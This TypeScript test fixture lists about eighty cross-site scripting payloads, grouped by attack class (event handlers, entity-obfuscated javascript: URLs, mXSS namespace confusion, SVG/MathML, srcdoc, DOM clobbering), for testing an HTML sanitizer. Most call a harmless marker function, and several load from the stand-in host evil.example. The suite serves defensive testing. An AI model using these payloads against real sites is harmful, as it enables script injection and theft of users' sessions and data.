/**
 * Attack classes against an HTML allowlist sanitizer, written for lib/sanitize-html.ts (spec.md "Article HTML allowlist"): each
 * entry names its class. The unit suite checks every output against the allowlist; the browser suite
 * (tests/e2e/security/sanitizer-browser.spec.ts) renders them all in one article and watches for script.
 * Every payload that would run calls `__pwned(...)` or loads from evil.example.
 */
export const SANITIZER_CORPUS: readonly { kind: string; html: string }[] = [
  // Script and event handlers
  { kind: 'script', html: `<script>__pwned('script')</script>` },
  { kind: 'script', html: `<SCRIPT SRC=//evil.example/x.js></SCRIPT>` },
  { kind: 'script', html: `<scr<script>ipt>__pwned('split')</scr</script>ipt>` },
  { kind: 'handler', html: `<img src=x onerror="__pwned('onerror')">` },
  { kind: 'handler', html: `<img src=x onerror=__pwned('unquoted')>` },
  { kind: 'handler', html: `<p/onmouseover=__pwned('slash')>x</p>` },
  {
    kind: 'handler',
    html: `<div onpointerenter="__pwned('pointer')" style="position:fixed;inset:0">x</div>`,
  },
  { kind: 'handler', html: `<body onload=__pwned('body')>` },
  { kind: 'handler', html: `<details open ontoggle=__pwned('toggle')>x</details>` },
  { kind: 'handler', html: `<video><source onerror="__pwned('source')"></video>` },
  { kind: 'handler', html: `<img src=x ONERROR&#x3d;__pwned('entity-eq')>` },
  // URL schemes with obfuscation: entities, tabs, newlines, zero-width and control characters, case
  { kind: 'url', html: `<a href="javascript:__pwned('js')">a</a>` },
  { kind: 'url', html: `<a href="JaVaScRiPt:__pwned('case')">a</a>` },
  {
    kind: 'url',
    html: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__pwned('dec')">a</a>`,
  },
  {
    kind: 'url',
    html: `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;__pwned('hex')">a</a>`,
  },
  { kind: 'url', html: `<a href="&#0000106&#0000097vascript:__pwned('padded')">a</a>` },
  { kind: 'url', html: `<a href="jav&#x09;ascript:__pwned('tab-entity')">a</a>` },
  { kind: 'url', html: `<a href="jav\tascript:__pwned('tab')">a</a>` },
  { kind: 'url', html: `<a href="jav\nascript:__pwned('newline')">a</a>` },
  { kind: 'url', html: `<a href="jav&NewLine;ascript&colon;__pwned('named')">a</a>` },
  { kind: 'url', html: `<a href=" \u0001javascript:__pwned('control')">a</a>` },
  { kind: 'url', html: `<a href="java\u200Bscript:__pwned('zero-width')">a</a>` },
  { kind: 'url', html: `<a href="\u200Bjavascript:__pwned('zw-lead')">a</a>` },
  { kind: 'url', html: `<a href="javascript&#58;__pwned('colon-entity')">a</a>` },
  { kind: 'url', html: `<a href="javascript&#x3a;__pwned('colon-hex')">a</a>` },
  { kind: 'url', html: `<a href="vbscript:msgbox('vb')">a</a>` },
  { kind: 'url', html: `<a href="VBScript&#58;msgbox('vb2')">a</a>` },
  { kind: 'url', html: `<a href="data:text/html,<script>__pwned('data')</script>">a</a>` },
  { kind: 'url', html: `<a href="data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCdiNjQnKTwvc2NyaXB0Pg==">a</a>` },
  { kind: 'url', html: `<img src="data:image/svg+xml,<svg onload=__pwned('svgdata')>">` },
  { kind: 'url', html: `<img src="javascript:__pwned('imgjs')">` },
  { kind: 'url', html: `<a href="//evil.example/">protocol-relative (allowed: a link, not script)</a>` },
  // mXSS by namespace confusion and nesting
  { kind: 'mxss', html: `<svg></p><style><a id="</style><img src=x onerror=__pwned('svg-style')>">` },
  {
    kind: 'mxss',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__pwned('mglyph')&gt;">`,
  },
  {
    kind: 'mxss',
    html: `<math><mi><form><mglyph><style><img src=x onerror=__pwned('form-mglyph')></style></mglyph></form></mi></math>`,
  },
  {
    kind: 'mxss',
    html: `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=__pwned('nested-form') src>">`,
  },
  { kind: 'mxss', html: `<noscript><p title="</noscript><img src=x onerror=__pwned('noscript')>">` },
  { kind: 'mxss', html: `<svg><p><style><img src=x onerror=__pwned('svg-p')></style></p></svg>` },
  { kind: 'mxss', html: `<svg><foreignObject><img src=x onerror=__pwned('foreign')></foreignObject></svg>` },
  {
    kind: 'mxss',
    html: `<math><annotation-xml encoding="text/html"><img src=x onerror=__pwned('annotation')></annotation-xml></math>`,
  },
  {
    kind: 'mxss',
    html: `<table><caption><svg><style><img src=x onerror=__pwned('caption')></style></svg></caption></table>`,
  },
  {
    kind: 'mxss',
    html: `<textarea><img title="</textarea><img src=x onerror=__pwned('textarea')>"></textarea>`,
  },
  { kind: 'mxss', html: `<title><img title="</title><img src=x onerror=__pwned('title')>">` },
  { kind: 'mxss', html: `<xmp><img title="</xmp><img src=x onerror=__pwned('xmp')>">` },
  { kind: 'mxss', html: `<listing>&lt;img src=x onerror=__pwned('listing')&gt;</listing>` },
  { kind: 'mxss', html: `<!--><img src=x onerror=__pwned('comment')>-->` },
  { kind: 'mxss', html: `<a title="a<!--"><img src=x onerror=__pwned('comment-attr')>-->` },
  // SVG and MathML
  { kind: 'svg', html: `<svg onload=__pwned('svgload')>` },
  { kind: 'svg', html: `<svg><script>__pwned('svgscript')</script></svg>` },
  { kind: 'svg', html: `<svg><a xlink:href="javascript:__pwned('xlink')"><text>x</text></a></svg>` },
  { kind: 'svg', html: `<svg><animate onbegin=__pwned('animate') attributeName=x dur=1s>` },
  { kind: 'svg', html: `<svg><set attributeName="href" to="javascript:__pwned('set')"/></svg>` },
  {
    kind: 'svg',
    html: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__pwned(1)'/></svg>#x"/></svg>`,
  },
  { kind: 'math', html: `<math href="javascript:__pwned('mathhref')"><mi>x</mi></math>` },
  {
    kind: 'math',
    html: `<math><maction actiontype="statusline" xlink:href="javascript:__pwned('maction')">x</maction></math>`,
  },
  // Frames, srcdoc, objects, forms, meta, base
  { kind: 'srcdoc', html: `<iframe srcdoc="<script>parent.__pwned('srcdoc')</script>"></iframe>` },
  { kind: 'srcdoc', html: `<iframe srcdoc="&lt;img src=x onerror=parent.__pwned('srcdoc2')&gt;"></iframe>` },
  { kind: 'frame', html: `<iframe src="javascript:parent.__pwned('iframejs')"></iframe>` },
  {
    kind: 'frame',
    html: `<embed src="https://evil.example/x.swf"><object data="https://evil.example/o"></object>`,
  },
  {
    kind: 'form',
    html: `<form action="https://evil.example/"><button formaction="javascript:__pwned('formaction')">go</button></form>`,
  },
  { kind: 'meta', html: `<meta http-equiv="refresh" content="0;url=javascript:__pwned('meta')">` },
  { kind: 'base', html: `<base href="https://evil.example/">` },
  { kind: 'link', html: `<link rel="stylesheet" href="https://evil.example/x.css">` },
  // Style
  { kind: 'style', html: `<style>@import 'https://evil.example/x.css';</style>` },
  { kind: 'style', html: `<p style="background:url(https://evil.example/bg.png)">styled</p>` },
  {
    kind: 'style',
    html: `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">cover</div>`,
  },
  { kind: 'style', html: `<div class="fixed inset-0 z-50 bg-black">cover by class</div>` },
  // DOM clobbering by id and name
  { kind: 'clobber', html: `<a id="__pwned" href="https://evil.example/">clobber __pwned</a>` },
  { kind: 'clobber', html: `<div id="__next_f">hydration</div><div id="__next">root</div>` },
  { kind: 'clobber', html: `<img name="getElementById"><form name="cookie"></form>` },
  {
    kind: 'clobber',
    html: `<a id="location" href="https://evil.example/">x</a><a id="location" name="href" href="https://evil.example/">y</a>`,
  },
  { kind: 'clobber', html: `<span id="defaultView"></span><span id="body"></span><img id="currentScript">` },
  { kind: 'clobber', html: `<a href="#__next">anchor to a page id</a>` },
  // Attribute smuggling
  { kind: 'attrs', html: `<a href="https://example.com" target="_blank" rel="opener">opener</a>` },
  {
    kind: 'attrs',
    html: `<img src="/x.png" srcset="https://evil.example/a.png 1x" data-src="x" aria-hidden="true" width="1">`,
  },
  { kind: 'attrs', html: `<p is="x-evil" slot="x" part="y" tabindex="1" contenteditable>attrs</p>` },
  { kind: 'attrs', html: `<a href="https://example.com" ping="https://evil.example/ping">ping</a>` },
  { kind: 'template', html: `<template><img src=x onerror=__pwned('template')></template>` },
  { kind: 'custom', html: `<x-evil onclick=__pwned('custom')>custom element</x-evil>` },
];
